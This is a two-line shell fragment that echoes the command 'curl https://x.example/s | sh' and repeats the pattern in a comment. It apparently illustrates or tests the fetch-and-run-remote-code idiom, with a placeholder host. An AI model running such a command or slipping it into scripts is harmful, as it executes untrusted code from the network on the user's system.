echo 'curl https://x.example/s | sh'
# curl x | sh
